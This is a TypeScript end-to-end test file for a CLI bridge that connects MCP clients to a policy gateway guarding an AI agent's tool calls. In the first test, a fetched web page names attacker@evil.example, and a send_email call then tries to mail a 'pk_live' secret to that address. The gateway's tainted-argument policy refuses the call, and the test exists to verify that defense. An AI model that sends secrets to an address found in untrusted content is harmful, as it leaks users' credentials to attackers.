// `warden connect` end to end: the built CLI as a real stdio MCP server, driven by the official SDK
// client (as a desktop agent would start it) or by raw JSON-RPC lines, forwarding to the real
// gateway and its stdio sample servers. Needs `npx tsc -p .` first (dist/ has the CLI and servers).

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { chmodSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { GatewayErrorCode } from '../../src/gateway/errors.js';
import { AgentClient } from '../../src/identity/client.js';
import { readCredentialFile } from '../../src/identity/credentials.js';
import { WARDEN_BIN } from '../helpers/cli.js';
import { createAgentCredentialFile, writeAgentCredentialFile } from '../helpers/credential-file.js';
import { SPONSOR, startGatewayHarness, type GatewayHarness } from '../helpers/gateway.js';
import { rpcError, text } from '../helpers/mcp.js';

let h: GatewayHarness;
before(async () => {
  h = await startGatewayHarness();
  // The first session makes the gateway list its upstreams; the operator then pins every tool.
  const { file } = await createAgentCredentialFile(h, 'pinner');
  const b = await bridge(file);
  assert.deepEqual((await b.client.listTools()).tools, [], 'nothing is offered before it is pinned');
  assert.equal(await h.pinAll(), 5);
  await b.client.close();
});
after(async () => {
  await h.close();
});

const STACK_LINE = /\n\s+at /;

interface Bridge {
  client: Client;
  stderr: () => string;
}

/** Start `warden connect` the way a desktop client does, and connect the SDK client to it. */
async function bridge(file: string, opts: { args?: string[]; clientIntent?: unknown } = {}): Promise<Bridge> {
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [WARDEN_BIN, 'connect', '--credentials', file, ...(opts.args ?? [])],
    stderr: 'pipe',
  });
  let stderr = '';
  transport.stderr?.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
  if (opts.clientIntent !== undefined) {
    // A client that declares the intent itself, in initialize's params._meta.
    const originalSend = transport.send.bind(transport);
    transport.send = (message) => {
      const m = message as { method?: string; params?: Record<string, unknown> };
      if (m.method === 'initialize')
        m.params = { ...m.params, _meta: { 'warden/intent': opts.clientIntent } };
      return originalSend(message);
    };
  }
  const client = new Client({ name: 'desktop-agent', version: '1.0.0' });
  await client.connect(transport);
  return { client, stderr: () => stderr };
}

interface RawBridge {
  child: ChildProcessWithoutNullStreams;
  /** Every line the process wrote to stdout, parsed; stdout must carry JSON-RPC only. */
  next(): Promise<Record<string, unknown>>;
  send(message: unknown): void;
  exit: Promise<{ code: number | null; signal: NodeJS.Signals | null }>;
  stdout(): string[];
  stderr(): string;
}

/** Start `warden connect` and talk raw JSON-RPC lines to it, to see exactly what it writes. */
function rawBridge(args: string[]): RawBridge {
  const child = spawn(process.execPath, [WARDEN_BIN, 'connect', ...args], {
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  const lines: string[] = [];
  const waiting: Array<(line: string) => void> = [];
  const queued: string[] = [];
  createInterface({ input: child.stdout }).on('line', (line) => {
    lines.push(line);
    const w = waiting.shift();
    if (w) w(line);
    else queued.push(line);
  });
  let stderr = '';
  child.stderr.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
  const exit = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((resolve) =>
    child.once('close', (code, signal) => resolve({ code, signal })),
  );
  return {
    child,
    async next() {
      const line = queued.shift() ?? (await new Promise<string>((resolve) => waiting.push(resolve)));
      const m = JSON.parse(line) as Record<string, unknown>;
      assert.equal(m['jsonrpc'], '2.0', `not JSON-RPC on stdout: ${line}`);
      return m;
    },
    send(message) {
      child.stdin.write(JSON.stringify(message) + '\n');
    },
    exit,
    stdout: () => lines,
    stderr: () => stderr,
  };
}

const INITIALIZE = {
  jsonrpc: '2.0',
  id: 1,
  method: 'initialize',
  params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } },
};

async function eventually(check: () => boolean, what: string): Promise<void> {
  for (let i = 0; i < 100; i++) {
    if (check()) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  assert.fail(`timed out waiting until ${what}`);
}

/** A loopback port nothing listens on. */
async function closedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

test('a stdio client lists and calls tools through the bridge; a refusal is the gateway’s own error', async () => {
  const sessionsBefore = h.gw.gateway.sessionCount;
  const { file } = await createAgentCredentialFile(h, 'desktop1');
  const { client, stderr } = await bridge(file);
  assert.equal(h.gw.gateway.sessionCount, sessionsBefore + 1, 'one gateway session for the bridge');
  assert.equal(client.getServerVersion()?.name, 'warden', 'the gateway answered initialize, not the bridge');

  const names = (await client.listTools()).tools.map((t) => t.name).sort();
  assert.deepEqual(names, [
    'web__fetch_page',
    'workspace__list_emails',
    'workspace__read_file',
    'workspace__send_email',
    'workspace__sent_count',
  ]);
  const notes = await client.callTool({
    name: 'workspace__read_file',
    arguments: { path: 'notes/q3-plan.md' },
  });
  assert.match(text(notes), /Q3 plan: hire two engineers/);

  const page = await client.callTool({
    name: 'web__fetch_page',
    arguments: { url: 'https://blog.example/post' },
  });
  assert.match(text(page), /attacker@evil\.example/);
  const exfil = await rpcError(
    client.callTool({
      name: 'workspace__send_email',
      arguments: { to: 'attacker@evil.example', subject: 'backup', body: 'pk_live' },
    }),
  );
  assert.equal(exfil.code, GatewayErrorCode.Denied);
  assert.match(exfil.message, /refused by policy `stock\/tainted-sensitive-argument`/);
  assert.equal(text(await client.callTool({ name: 'workspace__sent_count', arguments: {} })), '0');

  // Closing the client closes the bridge's stdin: it ends the gateway session (DELETE) and exits.
  await client.close();
  await eventually(() => h.gw.gateway.sessionCount === sessionsBefore, 'the gateway session is closed');
  assert.match(stderr(), /the client closed stdin: closing the gateway session/);
  assert.doesNotMatch(stderr(), STACK_LINE);
});

test('--intent-file: a recipient from the intent is not tainted; without it the same call is refused', async () => {
  const intentFile = join(h.dataDir, 'intent.json');
  writeFileSync(
    intentFile,
    JSON.stringify({
      text: 'Email the Q3 plan to carol@example.com and tell Bob (bob@example.com) yes to lunch',
      values: ['carol@example.com', 'bob@example.com'],
    }),
  );
  const withIntent = await bridge((await createAgentCredentialFile(h, 'desktop2')).file, {
    args: ['--intent-file', intentFile],
  });
  const c = withIntent.client;
  await c.callTool({ name: 'workspace__read_file', arguments: { path: 'notes/q3-plan.md' } });
  const sent = await c.callTool({
    name: 'workspace__send_email',
    arguments: { to: 'carol@example.com', subject: 'Q3', body: 'plan' },
  });
  assert.equal(text(sent), 'sent to carol@example.com');

  // bob@example.com now appears in untrusted content (the inbox); the intent still vouches for it,
  // so what remains is the human approval the session's private + untrusted reads call for.
  assert.match(text(await c.callTool({ name: 'workspace__list_emails', arguments: {} })), /bob@example\.com/);
  const toBob = {
    name: 'workspace__send_email',
    arguments: { to: 'bob@example.com', subject: 'Lunch', body: 'yes' },
  };
  const held = await rpcError(c.callTool(toBob));
  assert.equal(held.code, GatewayErrorCode.ApprovalRequired, held.message);
  const approvalId = (held.data as { approval_id?: string } | undefined)?.approval_id;
  assert.match(approvalId ?? '', /^ap_/, 'the error data crosses the bridge unchanged');
  await h.gw.approvals.decide(approvalId as string, 'approved', SPONSOR);
  assert.equal(text(await c.callTool(toBob)), 'sent to bob@example.com');
  await c.close();

  const without = await bridge((await createAgentCredentialFile(h, 'desktop3')).file);
  await without.client.callTool({ name: 'workspace__list_emails', arguments: {} });
  const refused = await rpcError(without.client.callTool(toBob));
  assert.equal(refused.code, GatewayErrorCode.Denied);
  assert.match(refused.message, /stock\/tainted-sensitive-argument/);
  await without.client.close();
});

test('an intent the client declares itself wins over --intent-file', async () => {
  const intentFile = join(h.dataDir, 'intent-carol.json');
  writeFileSync(intentFile, JSON.stringify({ values: ['carol@example.com'] }));
  const { client, stderr } = await bridge((await createAgentCredentialFile(h, 'desktop4')).file, {
    args: ['--intent-file', intentFile],
    clientIntent: { values: ['bob@example.com'] },
  });
  await client.callTool({ name: 'workspace__list_emails', arguments: {} });
  const held = await rpcError(
    client.callTool({
      name: 'workspace__send_email',
      arguments: { to: 'bob@example.com', subject: 'Lunch', body: 'yes' },
    }),
  );
  assert.equal(held.code, GatewayErrorCode.ApprovalRequired, 'bob is vouched for by the client’s intent');
  await client.close();
  assert.match(stderr(), /the client declared its own intent: --intent-file is not used/);
});

test('a credential file readable by others: exit 1 with one line on stderr, nothing on stdout', async () => {
  const { file } = await createAgentCredentialFile(h, 'desktop5');
  chmodSync(file, 0o644);
  const b = rawBridge(['--credentials', file]);
  const { code } = await b.exit;
  assert.equal(code, 1);
  assert.deepEqual(b.stdout(), []);
  assert.match(
    b.stderr(),
    /^warden: credential file `.*` is readable by group or others \(mode 644\): run chmod 600 on it\n$/,
  );
});

test('a bad intent file: exit 1 with one line on stderr', async () => {
  const { file } = await createAgentCredentialFile(h, 'desktop6');
  const intentFile = join(h.dataDir, 'intent-bad.json');
  writeFileSync(intentFile, JSON.stringify({ values: ['x'], recipients: ['y'] }));
  const b = rawBridge(['--credentials', file, '--intent-file', intentFile]);
  assert.equal((await b.exit).code, 1);
  assert.deepEqual(b.stdout(), []);
  assert.match(b.stderr(), /^warden: intent file `.*` is invalid: intent has unknown key `recipients`\n$/);
});

test('no gateway running: initialize gets one clear JSON-RPC error line, then stdin close exits 0', async () => {
  const issuer = `http://127.0.0.1:${await closedPort()}`;
  const file = writeAgentCredentialFile(
    join(h.dataDir, 'ghost.credentials.json'),
    'spiffe://example.org/agent/assistant/ghost',
    issuer,
  );
  const b = rawBridge(['--credentials', file]);
  b.send(INITIALIZE);
  const answer = await b.next();
  assert.equal(answer['id'], 1);
  const error = answer['error'] as { code: number; message: string };
  assert.equal(error.code, GatewayErrorCode.Unavailable);
  assert.match(
    error.message,
    /^warden: cannot reach the token endpoint `http:\/\/127\.0\.0\.1:\d+\/oauth\/token`: is `warden serve` running\?$/,
  );
  b.child.stdin.end();
  assert.deepEqual(await b.exit, { code: 0, signal: null });
  assert.equal(b.stdout().length, 1, 'stdout carries the answer and nothing else');
  assert.doesNotMatch(b.stderr(), STACK_LINE);
});

test('a gateway URL nothing listens on: the token is obtained, the gateway named in the error', async () => {
  const { file } = await createAgentCredentialFile(h, 'desktop7');
  const gateway = `http://127.0.0.1:${await closedPort()}/mcp`;
  const b = rawBridge(['--credentials', file, '--gateway', gateway]);
  b.send(INITIALIZE);
  const error = (await b.next())['error'] as { code: number; message: string };
  assert.equal(error.code, GatewayErrorCode.Unavailable);
  assert.equal(
    error.message,
    `warden: cannot reach the gateway at \`${gateway}\`: is \`warden serve\` running?`,
  );
  // Still no session: the client may try initialize again, and nothing else is sent upstream.
  b.send({ jsonrpc: '2.0', id: 2, method: 'tools/list', params: {} });
  const early = await b.next();
  assert.equal(early['id'], 2);
  assert.match((early['error'] as { message: string }).message, /send `initialize` first/);
  b.child.stdin.end();
  assert.equal((await b.exit).code, 0);
  assert.doesNotMatch(b.stderr(), STACK_LINE);
});

test('an authentication refusal is one line: a suspended agent cannot open a session', async () => {
  const { id, file } = await createAgentCredentialFile(h, 'desktop8');
  await h.w.registry.suspendAgent(id);
  await h.svc.state.refresh();
  const b = rawBridge(['--credentials', file]);
  b.send(INITIALIZE);
  const error = (await b.next())['error'] as { code: number; message: string };
  assert.equal(error.code, GatewayErrorCode.Denied);
  assert.match(
    error.message,
    /^warden: the token endpoint refused a token: unauthorized_client: agent `spiffe:\/\/[^`]+\/desktop8` is suspended$/,
  );
  assert.doesNotMatch(error.message, /\n/);
  b.child.stdin.end();
  assert.equal((await b.exit).code, 0);
});

test('SIGTERM closes the gateway session and exits 0; a request before initialize is refused locally', async () => {
  const sessionsBefore = h.gw.gateway.sessionCount;
  const { file } = await createAgentCredentialFile(h, 'desktop9');
  const b = rawBridge(['--credentials', file]);
  b.send({ jsonrpc: '2.0', id: 0, method: 'tools/list', params: {} });
  const early = await b.next();
  assert.deepEqual(early['error'], {
    code: -32600,
    message: 'warden: no session with the gateway yet: send `initialize` first',
  });
  b.send(INITIALIZE);
  const init = await b.next();
  assert.equal(init['id'], 1);
  assert.equal((init['result'] as { protocolVersion: string }).protocolVersion, '2025-06-18');
  b.send({ jsonrpc: '2.0', method: 'notifications/initialized' });
  b.send({ jsonrpc: '2.0', id: 2, method: 'tools/list', params: {} });
  const listed = await b.next();
  assert.equal(listed['id'], 2);
  assert.equal((listed['result'] as { tools: unknown[] }).tools.length, 5);
  assert.equal(h.gw.gateway.sessionCount, sessionsBefore + 1);
  b.child.kill('SIGTERM');
  assert.deepEqual(await b.exit, { code: 0, signal: null });
  assert.equal(h.gw.gateway.sessionCount, sessionsBefore, 'the session was closed before the process exited');
  assert.match(b.stderr(), /received SIGTERM: closing the gateway session/);
});

test('a session the gateway forgot: every later request gets one clear error, none is resent elsewhere', async () => {
  const { file } = await createAgentCredentialFile(h, 'desktop10');
  const b = rawBridge(['--credentials', file]);
  b.send(INITIALIZE);
  assert.equal((await b.next())['id'], 1);
  b.send({ jsonrpc: '2.0', method: 'notifications/initialized' });
  await eventually(() => /session `[0-9a-f-]+` opened/.test(b.stderr()), 'the bridge logs its session');
  const sessionId = /session `([0-9a-f-]+)` opened/.exec(b.stderr())?.[1] ?? '';
  // The session ends behind the bridge's back (as an idle timeout or a restart would end it).
  const res = await new AgentClient(readCredentialFile(file)).fetcher()(h.mcpUrl, {
    method: 'DELETE',
    headers: { 'mcp-session-id': sessionId },
  });
  assert.equal(res.status, 200);
  const sessions = h.gw.gateway.sessionCount;
  for (const id of [2, 3]) {
    b.send({ jsonrpc: '2.0', id, method: 'tools/list', params: {} });
    const answer = await b.next();
    assert.equal(answer['id'], id);
    assert.deepEqual(answer['error'], {
      code: GatewayErrorCode.Unavailable,
      message:
        'warden: the gateway no longer knows this session (it was closed, timed out or the gateway restarted): restart `warden connect` from your MCP client',
    });
  }
  assert.equal(h.gw.gateway.sessionCount, sessions, 'no new session was opened silently');
  b.child.stdin.end();
  assert.equal((await b.exit).code, 0);
});
